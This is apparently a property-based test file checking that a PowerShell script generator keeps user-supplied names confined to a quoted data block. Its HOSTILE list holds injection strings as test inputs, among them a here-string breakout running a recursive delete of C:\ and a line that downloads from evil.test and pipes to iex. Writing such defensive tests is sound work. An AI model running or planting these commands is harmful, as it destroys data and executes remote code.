import { readFileSync } from 'node:fs';
import { fileURLToPath } from 'node:url';
import fc from 'fast-check';
import { t } from 'tap';
import { Language, Parser } from 'web-tree-sitter';
import type { Plan } from '../../src/directory/script/plan.ts';
import { scriptOf } from '../../src/directory/script/script.ts';

// Whatever stands in a name: it is data, and never leaves the block. The parser proves that a script is PowerShell; since it does not
// know curly quotes for quotes, it proves nothing of quoting: that the block holds no quote at all does.

const PROGRAM = readFileSync(new URL('../../src/directory/script/program.ps1', import.meta.url), 'utf8');
const HOSTILE = [
  "'@",
  "\n'@\nRemove-Item C:\\ -Recurse\n",
  "\r\n'@ | iex #",
  '"; iwr evil.test | iex; "',
  '$(Get-Process)',
  '`n`0',
  'O’Brien ‘x’ ‚y‛',
  '“dua” „bawah‟',
  'a,b;c#d\\e<f>g*h(i)j|k&l',
  '\0hidden',
  '\u2028\u2029\u0085',
  ' leading and trailing ',
  'محمد بن علي',
  '😀👩‍👩‍👧',
  '\ud800',
  'a'.repeat(200),
  '@echo off',
  '\u001b[2J',
  '<#',
  '#>',
  '--%',
];
const text = fc.oneof(
  fc.constantFrom(...HOSTILE),
  fc.string({ unit: 'binary', maxLength: 30 }),
  fc.tuple(fc.string({ unit: 'grapheme' }), fc.constantFrom(...HOSTILE)).map((parts) => parts.join('')),
);

const somePlan = fc
  .record({
    names: fc.array(text, { minLength: 1, maxLength: 6 }),
    base: fc.option(text, { nil: null }),
    values: fc.array(text),
  })
  .map(
    ({ names, base, values }): Plan => ({
      head: {
        ipms: 'plan',
        format: 1,
        installation: 'x',
        plan: 'y',
        made_at: '2026-11-24T06:00:00.000Z',
        agencies: names,
        base,
      },
      items: names.map((name) => ({ item: name, guid: null, kind: 'user', at: name, was: '' })),
      steps: names.map((name) => ({
        step: '1@2026',
        seal: 'z',
        object: name,
        name,
        kind: 'user',
        action: 'create',
        field: '',
        below: name,
        newName: name,
        attributes: { displayName: values },
      })),
    }),
  );

/** The three parts of a script. */
function partsOf(script: string) {
  const opening = "\n$plan = @'\n";
  const start = script.indexOf(opening) + opening.length;
  const end = script.indexOf("\n'@", start);
  return {
    program: script.slice(0, start - opening.length + 1),
    block: script.slice(start, end),
    rest: script.slice(end),
  };
}

t.test(
  'names never leave the block: the program is the same byte for byte, and the plan comes out as it went in',
  async (t) => {
    fc.assert(
      fc.property(somePlan, (plan) => {
        const { program, block, rest } = partsOf(scriptOf(plan));
        t.equal(program, PROGRAM);
        t.equal(rest, "\n'@\nInvoke-IpmsPlan $plan\n");
        for (const line of block.split('\n')) t.match(line, /^[\x20-\x26\x28-\x7e]*$/);
        const { head, items, steps } = plan;
        t.strictSame(JSON.parse(block), [head, ...items, ...steps]);
        // as the program reads it: one value a line
        const lines = block.split('\n').map((line) => line.trim().replace(/^[[,]/, ''));
        t.strictSame(
          lines.filter((line) => line !== '' && line !== ']').map((line) => JSON.parse(line)),
          [head, ...items, ...steps],
        );
      }),
      { numRuns: 300 },
    );
  },
);

t.test('the program is printable ASCII, and has one place where the data goes', async (t) => {
  t.match(PROGRAM, /^[\n\x20-\x7e]*$/);
  t.notMatch(PROGRAM, /^'@|@'\s*$/m);
  t.notMatch(PROGRAM, /Invoke-Expression|\biex\b|ScriptBlock|AccountPassword|SecureString/i);
  t.match(PROGRAM, 'SupportsShouldProcess = $true');
});

t.test('a script is PowerShell, and after the program only an assignment of text and one call', async (t) => {
  await Parser.init();
  const wasm = fileURLToPath(import.meta.resolve('tree-sitter-powershell/tree-sitter-powershell.wasm'));
  const parser = new Parser().setLanguage(await Language.load(wasm));
  const shapeOf = (script: string) => {
    const root = parser.parse(script)?.rootNode;
    t.equal(root?.hasError, false);
    const start = script.indexOf("\n$plan = @'") + 1;
    return root
      ?.descendantsOfType(['pipeline', 'command_name', 'verbatim_here_string_characters'])
      .filter((node) => node !== null && node.startIndex >= start)
      .map((node) => (node?.type === 'command_name' ? node.text : node?.type));
  };
  const plans = fc.sample(somePlan, { numRuns: 20, seed: 36 });
  const [first, ...others] = plans.map((plan) => shapeOf(scriptOf(plan)));
  t.ok(first?.includes('verbatim_here_string_characters'));
  t.ok(first?.includes('Invoke-IpmsPlan'));
  for (const shape of others) t.strictSame(shape, first, 'whatever is in the plan');
});
